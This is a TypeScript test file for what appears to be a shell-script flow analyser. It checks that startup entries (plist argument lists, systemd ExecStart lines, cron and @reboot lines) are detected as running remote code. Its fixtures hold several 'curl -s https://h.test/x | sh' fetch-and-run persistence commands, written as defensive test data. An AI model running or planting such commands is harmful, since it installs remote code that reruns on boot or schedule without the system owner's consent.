// What a startup entry will have run is read as a command: units, property lists, desktop entries, timetables.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const RUNS = /^net,net:h\.test → (?:shell) stdin h\.test recurring$/m;
const written = (path: string, text: string): string =>
  run({ 'scripts/a.sh': `mkdir x\ncat > ${path} <<'E'\n${text}\nE\n` })
    .flows()
    .map((f) => `${[...f.from].sort().join(',')} → ${f.to} ${f.position} ${f.host} ${f.trigger}`)
    .join('\n');

describe('a startup entry', () => {
  it('has the words of its list or the line behind its name run', () => {
    // The small world of these tests knows one kind of startup file.
    const list = (words: readonly string[]) =>
      `<plist><dict><key>ProgramArguments</key>\n<array>${words.map((w) => `<string>${w}</string>`).join('')}</array></dict></plist>`;
    expect(written('~/.bashrc', list(['/bin/sh', '-c', 'curl -s https://h.test/x | sh']))).toMatch(RUNS);
    expect(written('~/.bashrc', list(['curl', '-s', 'https://h.test/x', '|', 'bash']))).toMatch(RUNS);
    expect(written('~/.bashrc', '[Service]\nExecStart=/bin/bash -c "curl -s https://h.test/x | bash"')).toMatch(RUNS);
    expect(written('~/.bashrc', '*/5 * * * * root curl -s https://h.test/x | sh')).toMatch(RUNS);
    expect(written('~/.bashrc', '@reboot curl -s https://h.test/x | sh')).toMatch(RUNS);
  });
  it('that only starts a program fetches nothing', () => {
    expect(written('~/.bashrc', '[Service]\nExecStart=/usr/bin/widget --serve')).not.toMatch(RUNS);
    expect(written('notes.txt', '@reboot curl -s https://h.test/x | sh')).not.toMatch(RUNS);
  });
});
